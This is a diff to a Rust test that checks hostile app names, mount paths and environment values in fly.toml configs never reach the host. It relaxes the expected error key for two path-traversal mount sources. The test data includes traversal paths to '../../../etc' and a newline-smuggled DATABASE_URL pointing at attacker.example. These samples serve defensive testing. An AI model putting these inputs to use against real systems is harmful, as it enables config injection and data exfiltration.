@@ -67,8 +67,10 @@ fn hostile_names_paths_and_env_values_never_reach_the_host() {
     let cache = tempfile::tempdir().unwrap();
     let cases = [
         (fly_toml(HOSTILE_APP, "shop_data", "hi"), "(app)"),
-        (fly_toml("shop", "../../../../", "hi"), "(mounts.source)"),
-        (fly_toml("shop", "../../../etc", "hi"), "(mounts.source)"),
+        // `(mounts.source)` from the step, or `(mounts[0].source)` from
+        // parse-config when the host reads the app first (to place a build).
+        (fly_toml("shop", "../../../../", "hi"), "(mounts"),
+        (fly_toml("shop", "../../../etc", "hi"), "(mounts"),
         (fly_toml("shop", "shop_data", r"hi\nDATABASE_URL=postgres://attacker.example/steal"), "(env.GREETING)"),
     ];
     for (fly, key) in cases {
